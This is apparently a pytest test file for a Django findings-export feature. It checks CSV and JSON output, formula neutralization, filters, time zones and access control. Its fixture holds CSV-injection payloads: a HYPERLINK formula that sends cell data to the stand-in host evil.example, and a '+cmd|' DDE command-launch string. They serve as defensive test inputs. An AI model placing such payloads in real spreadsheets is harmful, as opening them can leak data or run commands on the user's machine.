"""CSV / JSON export of a filtered findings list: streamed, spreadsheet-safe, same filters as the list."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.urls import reverse

from findings.export import EXPORT_COLUMNS, csv_lines, neutralize_cell
from tests.factories import CloudConnectionFactory, FindingFactory, ResourceFactory

pytestmark = pytest.mark.django_db


def export_url(org, fmt: str, query: str = "") -> str:
    url = reverse("findings:export", kwargs={"org_slug": org.slug, "fmt": fmt})
    return f"{url}?{query}" if query else url


def body(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def findings(org):
    conn = CloudConnectionFactory(org=org, name="Prod")
    evil = ResourceFactory(
        connection=conn, name='=HYPERLINK("http://evil.example/?x="&A1,"click")', resource_type="aws.ec2.volume"
    )
    plain = ResourceFactory(connection=conn, name="web-1")
    return {
        "evil": FindingFactory(
            resource=evil,
            rule_id="aws-ec2-volume-unattached",
            severity="low",
            category="cost",
            title="+cmd|' /C calc'!A0",
            monthly_usd=Decimal("8.00"),
            first_seen=datetime(2025, 1, 31, 23, 0, tzinfo=UTC),
        ),
        "plain": FindingFactory(resource=plain, severity="high"),
        "resolved": FindingFactory(resource=plain, rule_id="aws-other", severity="low", status="resolved"),
    }


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("web-1", "web-1"),
        ("a=b", "a=b"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_neutralize_cell(value, expected):
    assert neutralize_cell(value) == expected


def test_csv_lines_neutralize_every_cell():
    row = dict.fromkeys(EXPORT_COLUMNS, "")
    row.update(resource_name="@evil", suppressed_reason="-rm", id=1, monthly_usd=None)
    lines = list(csv_lines([row]))
    assert lines[0].strip() == ",".join(EXPORT_COLUMNS)
    parsed = next(csv.DictReader(io.StringIO("".join(lines))))
    assert parsed["resource_name"] == "'@evil" and parsed["suppressed_reason"] == "'-rm" and parsed["monthly_usd"] == ""


def test_csv_export_of_a_filtered_set(owner, client_for, org, findings):
    owner.timezone = "Europe/Paris"
    owner.save()
    response = client_for(owner).get(export_url(org, "csv", "severity=low"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith(f'attachment; filename="findings-{org.slug}-')
    assert response["Content-Disposition"].endswith('.csv"')
    rows = list(csv.DictReader(io.StringIO(body(response))))
    assert [int(r["id"]) for r in rows] == [findings["evil"].pk]  # open + low only
    row = rows[0]
    assert list(row) == list(EXPORT_COLUMNS)
    assert row["resource_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert row["title"] == "'+cmd|' /C calc'!A0"
    assert row["connection"] == "Prod" and row["provider"] == "aws" and row["monthly_usd"] == "8.00"
    assert row["first_seen"] == "2025-02-01T00:00:00+01:00"  # the user's time zone
    assert row["resolved_at"] == ""


def test_json_export_of_a_filtered_set(owner, client_for, org, findings):
    response = client_for(owner).get(export_url(org, "json", "status=any&severity=low"))
    assert response.status_code == 200 and response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].endswith('.json"')
    data = json.loads(body(response))
    assert {d["id"] for d in data} == {findings["evil"].pk, findings["resolved"].pk}
    evil = next(d for d in data if d["id"] == findings["evil"].pk)
    assert list(evil) == list(EXPORT_COLUMNS)
    assert evil["resource_name"].startswith("=HYPERLINK")  # JSON is data, not a spreadsheet
    assert evil["monthly_usd"] == 8.0 and evil["resolved_at"] is None


def test_export_of_nothing_is_valid(owner, client_for, org):
    assert json.loads(body(client_for(owner).get(export_url(org, "json")))) == []
    assert body(client_for(owner).get(export_url(org, "csv"))).strip() == ",".join(EXPORT_COLUMNS)


def test_export_reads_in_bounded_queries(owner, client_for, org, django_assert_max_num_queries):
    conn = CloudConnectionFactory(org=org)
    for i in range(120):
        FindingFactory(resource=ResourceFactory(connection=conn), rule_id=f"r-{i}")
    client = client_for(owner)
    with django_assert_max_num_queries(14):
        rows = json.loads(body(client.get(export_url(org, "json"))))
    assert len(rows) == 120


def test_unknown_format_is_404(owner, client_for, org):
    assert client_for(owner).get(export_url(org, "xlsx")).status_code == 404


def test_invalid_filter_is_a_clear_400(owner, client_for, org, findings):
    response = client_for(owner).get(export_url(org, "csv", "severity=apocalyptic"))
    assert response.status_code == 400 and b"Severity" in response.content


@pytest.mark.parametrize("member_role", ["viewer"])
def test_viewer_may_export(member, client_for, org, findings):
    assert client_for(member).get(export_url(org, "csv")).status_code == 200


def test_outsider_gets_404(outsider, client_for, org, findings):
    client = client_for(outsider)
    assert client.get(export_url(org, "csv")).status_code == 404
    assert client.get(export_url(org, "json")).status_code == 404
    # Their own organization's export holds none of this org's findings.
    own = body(client.get(export_url(outsider.org, "csv", "status=any")))
    assert "HYPERLINK" not in own and "web-1" not in own


def test_list_export_links_carry_the_filters(owner, client_for, org, findings):
    page = client_for(owner).get(
        reverse("findings:list", kwargs={"org_slug": org.slug}) + "?severity=low&sort=-last_seen"
    )
    content = page.content.decode()
    assert export_url(org, "csv", "severity=low") in content and export_url(org, "json", "severity=low") in content
